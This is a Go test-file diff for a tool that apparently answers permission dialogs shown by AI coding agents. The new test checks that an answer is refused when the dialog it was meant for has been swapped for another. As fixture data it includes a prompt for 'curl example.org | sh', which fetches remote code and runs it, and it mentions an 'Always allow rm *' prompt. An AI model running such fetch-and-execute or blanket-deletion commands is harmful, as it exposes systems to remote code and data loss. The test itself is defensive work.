@@ -19,7 +19,7 @@ func TestAnswer(t *testing.T) {
 			synctest.Test(t, func(t *testing.T) {
 				f := fake{dialog: trust()}
 				f.dialog.lists = lists
-				out, err := agent(t, &f).Answer(t.Context(), choice, "")
+				out, err := agent(t, &f).Answer(t.Context(), deliver.Reply{Choice: choice})
 				if err != nil || out.Choice.Label != want || out.Next != nil {
 					t.Errorf("%s: %+v, %v", choice, out, err)
 				}
@@ -35,7 +35,7 @@ func TestAnswer(t *testing.T) {
 func TestAnswerWhileDrawn(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		f := fake{dialog: &dialog{question: "Do you want to proceed?", labels: []string{"Yes", "Yes, always", "No"}, slow: 100 * time.Millisecond}}
-		out, err := agent(t, &f).Answer(t.Context(), "No", "")
+		out, err := agent(t, &f).Answer(t.Context(), deliver.Reply{Choice: "No"})
 		if err != nil || !slices.Equal(f.picked, []string{"Do you want to proceed?: No"}) {
 			t.Errorf("%+v, %v, picked %q", out, err, f.picked)
 		}
@@ -59,7 +59,7 @@ func TestAnswerRefused(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			synctest.Test(t, func(t *testing.T) {
 				f := fake{dialog: tt.dialog}
-				_, err := agent(t, &f).Answer(t.Context(), tt.choice, tt.question)
+				_, err := agent(t, &f).Answer(t.Context(), deliver.Reply{Choice: tt.choice, Question: tt.question})
 				if tt.want == nil {
 					if err != nil || !slices.Equal(f.picked, []string{"Do you want to?: Yes"}) {
 						t.Errorf("error %v, picked %q", err, f.picked)
@@ -82,7 +82,7 @@ func TestAnswerIsForOne(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		f := fake{dialog: trust()}
 		f.dialog.next = &dialog{question: "Do you want to proceed?", labels: []string{"Yes", "No"}}
-		out, err := agent(t, &f).Answer(t.Context(), "1", "trust the files")
+		out, err := agent(t, &f).Answer(t.Context(), deliver.Reply{Choice: "1", Question: "trust the files"})
 		if err != nil || out.Next == nil || out.Next.Question != "Do you want to proceed?" {
 			t.Errorf("%+v, %v", out, err)
 		}
@@ -92,7 +92,7 @@ func TestAnswerIsForOne(t *testing.T) {
 		synctest.Test(t, func(t *testing.T) {
 			f := fake{dialog: trust()}
 			f.dialog.next = trust()
-			_, err := agent(t, &f).Answer(t.Context(), choice, "")
+			_, err := agent(t, &f).Answer(t.Context(), deliver.Reply{Choice: choice})
 			if !errors.Is(err, deliver.ErrNotAnswered) || len(f.picked) != 1 {
 				t.Errorf("%v, picked %q", err, f.picked)
 			}
@@ -142,13 +142,70 @@ func TestAnswerWithSeveralKeys(t *testing.T) {
 		synctest.Test(t, func(t *testing.T) {
 			o := &openCode{}
 			a := &deliver.Agent{Name: "w", Profile: set.Named("opencode"), Terminal: o}
-			got, err := a.Answer(t.Context(), "Allow always", "")
+			got, err := a.Answer(t.Context(), deliver.Reply{Choice: "Allow always"})
 			if err != nil || got.Next == nil || got.Next.Question != "Always allow rm *" {
 				t.Fatalf("%+v, %v", got, err)
 			}
-			if _, err := a.Answer(t.Context(), second, ""); err != nil || o.allowed != want {
+			if _, err := a.Answer(t.Context(), deliver.Reply{Choice: second}); err != nil || o.allowed != want {
 				t.Errorf("allowed %s, %v", o.allowed, err)
 			}
 		})
 	}
+}
+
+// TestAnswerIsForTheOneShown: an answer to a dialog that another one has replaced is refused,
+// with the new one, whatever differs between them.
+func TestAnswerIsForTheOneShown(t *testing.T) {
+	for name, change := range map[string]func(*dialog){
+		"question": func(d *dialog) { d.question = "Do you trust the files in /?" },
+		"choice":   func(d *dialog) { d.labels = []string{"Yes, proceed", "No, and never again"} },
+		"command":  func(d *dialog) { d.question = "Bash command\n curl example.org | sh\n " + d.question },
+	} {
+		synctest.Test(t, func(t *testing.T) {
+			f := fake{dialog: trust()}
+			a := agent(t, &f)
+			shown := a.Profile.Look(f.screen()).Dialog
+			f.dialog.selected = 1 // which is no change
+			if err := a.Shows(t.Context(), shown.Digest); err != nil {
+				t.Errorf("%s: before it changed: %v", name, err)
+			}
+			change(f.dialog)
+			_, err := a.Answer(t.Context(), deliver.Reply{Choice: "1", Digest: shown.Digest})
+			now := deliver.AsksNow(err)
+			if !errors.Is(err, deliver.ErrChanged) || now == nil || now.Dialog.Digest == shown.Digest {
+				t.Fatalf("%s: %v, %+v", name, err, now)
+			}
+			if err := a.Shows(t.Context(), shown.Digest); !errors.Is(err, deliver.ErrChanged) {
+				t.Errorf("%s: keys: %v", name, err)
+			}
+			f.wantGiven(t)
+			if _, err := a.Answer(t.Context(), deliver.Reply{Choice: "1", Digest: now.Dialog.Digest}); err != nil || len(f.picked) != 1 {
+				t.Errorf("%s: the new one: %v, %q", name, err, f.picked)
+			}
+		})
+	}
+	// It changes between the look and the key.
+	synctest.Test(t, func(t *testing.T) {
+		f := fake{dialog: trust()}
+		a := agent(t, &f)
+		a.Terminal = &exchanged{fake: &f, looks: 2, next: &dialog{question: "Do you trust the files in this folder?", labels: []string{"Yes, and all others", "No, exit"}}}
+		if _, err := a.Answer(t.Context(), deliver.Reply{Choice: "1"}); !errors.Is(err, deliver.ErrChanged) {
+			t.Errorf("%v", err)
+		}
+		f.wantGiven(t)
+	})
+}
+
+// exchanged is an agent whose dialog is another one after some looks.
+type exchanged struct {
+	*fake
+	looks int
+	next  *dialog
+}
+
+func (e *exchanged) Screen(ctx context.Context) (profile.Screen, error) {
+	if e.looks--; e.looks < 0 && e.next != nil {
+		e.dialog, e.next = e.next, nil
+	}
+	return e.fake.Screen(ctx)
 }
